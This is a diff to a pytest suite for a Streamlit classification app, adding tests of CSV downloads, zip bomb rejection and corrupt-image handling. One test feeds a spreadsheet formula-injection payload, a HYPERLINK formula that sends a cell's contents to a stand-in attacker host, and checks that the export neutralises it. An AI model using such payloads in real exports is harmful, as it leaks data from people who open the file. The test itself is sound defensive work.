@@ -13,6 +13,7 @@ import zipfile
 import pandas as pd
 import pytest
 from PIL import Image
+from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
 from streamlit.testing.v1 import AppTest
 
 import core.inference
@@ -22,6 +23,8 @@ from storage.paths import data_home
 from storage.results import save_threshold
 from tests.conftest import ROOT
 from tests.finished_runs import image_run, text_run, use_run
+from tests.test_bad_inputs import zip_bomb
+from tests.test_ingest_images import class_folders, photo, zip_of
 
 SPAMMY = "WINNER!! Claim your FREE prize now, call 09061234567"
 
@@ -115,7 +118,35 @@ def test_explain_highlights_the_words_of_the_text(tuneboard_home):
     assert words["weight"].abs().is_monotonic_decreasing
 
 
-def test_batch_scoring_of_a_csv_uses_the_chosen_column_and_offers_a_download(tuneboard_home):
+@pytest.fixture
+def media_files(monkeypatch) -> list[MemoryMediaFileStorage]:
+    """The media storage of each AppTest run (a spy: the real storage, remembered), so a test can fetch a
+    download at the URL the page gives the browser."""
+    stores: list[MemoryMediaFileStorage] = []
+    real_init = MemoryMediaFileStorage.__init__
+
+    def remembered(self, *args, **kwargs):
+        real_init(self, *args, **kwargs)
+        stores.append(self)
+
+    monkeypatch.setattr(MemoryMediaFileStorage, "__init__", remembered)
+    return stores
+
+
+def downloaded(at: AppTest, key: str, stores: list[MemoryMediaFileStorage]) -> bytes:
+    """The bytes a click on the download button `key` would save, from the last run's media storage."""
+    url = at.download_button(key=key).proto.url  # "/mock/media/<file id>.csv"
+    return stores[-1].get_file(url.rsplit("/", 1)[-1]).content
+
+
+def open_data_page() -> AppTest:
+    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120).run()
+    at.switch_page("pages/data.py").run()
+    assert not at.exception
+    return at
+
+
+def test_batch_scoring_of_a_csv_uses_the_chosen_column_and_offers_a_download(tuneboard_home, media_files):
     run_id = use_run(text_run(), tuneboard_home)
     texts = [SPAMMY, "See you at the station at 6", "Your parcel is waiting, pay the fee at bit.ly/x"]
     csv = "id,message\n" + "".join(f'{i},"{t}"\n' for i, t in enumerate(texts))
@@ -132,6 +163,23 @@ def test_batch_scoring_of_a_csv_uses_the_chosen_column_and_offers_a_download(tun
         assert [row[f"P({label})"] for label in labels] == pytest.approx([probabilities[l] for l in labels], abs=1e-6)
         assert row["predicted"] == max(probabilities, key=probabilities.get)
     assert [b.label for b in at.get("download_button")] == ["Download CSV"]
+    saved = pd.read_csv(io.BytesIO(downloaded(at, "predict_batch_download", media_files)))
+    pd.testing.assert_frame_equal(saved, scored, check_dtype=False)
+
+
+def test_the_download_neutralises_formulas(tuneboard_home, media_files):
+    use_run(text_run(), tuneboard_home)
+    hyperlink = '=HYPERLINK("http://attacker.example/?d="&A1, "Claim your prize")'
+    texts = [hyperlink, "@SUM(A1:A9) FREE entry", "+44 7700 900123 call now", "See you at six"]
+    csv = "message\n" + "".join('"{}"\n'.format(t.replace('"', '""')) for t in texts)
+    at = open_predict()
+    at.file_uploader(key="predict_batch_file").set_value(("inbox.csv", csv.encode(), "text/csv")).run()
+    at.button(key="predict_batch_go").click().run()
+    assert not at.exception
+    assert table(at, "input", "predicted")["input"].tolist() == texts  # the page shows the texts as they are
+    saved = pd.read_csv(io.BytesIO(downloaded(at, "predict_batch_download", media_files)))
+    assert saved["input"].tolist() == ["'" + t for t in texts[:3]] + ["See you at six"]
+    assert saved["confidence"].dtype == float  # numbers stay numbers
 
 
 def test_the_model_is_loaded_once_and_kept(tuneboard_home, monkeypatch):
@@ -224,7 +272,51 @@ def test_a_bad_upload_gets_a_plain_message(tuneboard_home):
     at.file_uploader(key="predict_batch_images").set_value([("broken.zip", b"not a zip", "application/zip")]).run()
     at.button(key="predict_batch_go").click().run()
     assert not at.exception
-    assert at.error[0].value == "The upload is not a valid zip file; zip the image folder again and retry."
+    assert at.error[0].value == "This zip file is damaged and could not be opened. Create it again and upload it."
+
+
+def test_a_zip_bomb_gets_the_data_pages_message(tuneboard_home):
+    use_run(image_run(), tuneboard_home)
+    bomb = zip_bomb()
+    data_page = open_data_page()
+    data_page.file_uploader(key="data_upload").upload("bomb.zip", bomb, "application/zip").run()
+    at = open_predict()
+    at.file_uploader(key="predict_batch_images").set_value([("bomb.zip", bomb, "application/zip")]).run()
+    at.button(key="predict_batch_go").click().run()
+    assert not at.exception and not data_page.exception
+    assert [e.value for e in at.error] == [e.value for e in data_page.error]
+    assert "zip bomb" in at.error[0].value
+    assert table_or_none(at) is None  # nothing was scored
+
+
+def test_a_corrupt_image_is_named_with_the_data_pages_reason_and_the_rest_scored(tuneboard_home):
+    run_id = use_run(image_run(), tuneboard_home)
+    files = class_folders(3) | {"ants/cut.jpg": photo(11, size=(64, 64))[:300]}
+    upload = zip_of(files)
+    data_page = open_data_page()
+    data_page.file_uploader(key="data_upload").upload("insects.zip", upload, "application/zip").run()
+    on_data = [w.value for w in data_page.warning if "could not be read" in w.value]
+    assert len(on_data) == 1 and "'ants/cut.jpg: damaged or cut off" in on_data[0]
+    at = open_predict()
+    at.file_uploader(key="predict_batch_images").set_value([("insects.zip", upload, "application/zip")]).run()
+    at.button(key="predict_batch_go").click().run()
+    assert not at.exception
+    assert [w.value for w in at.warning if "could not be read" in w.value] == on_data
+    scored = table(at, "input", "predicted", "confidence")
+    good = sorted(name for name in files if name != "ants/cut.jpg")
+    assert scored["input"].tolist() == good
+    expected = reference(run_id, [decoded(files[name]) for name in good])
+    assert scored["P(bees)"].tolist() == pytest.approx([e["bees"] for e in expected], abs=1e-6)
+
+
+def decoded(data: bytes) -> Image.Image:
+    image = Image.open(io.BytesIO(data))
+    image.load()
+    return image
+
+
+def table_or_none(at: AppTest) -> pd.DataFrame | None:
+    return next((d.value for d in at.dataframe if "predicted" in d.value.columns), None)
 
 
 def test_without_a_finished_run_the_page_says_where_to_go():
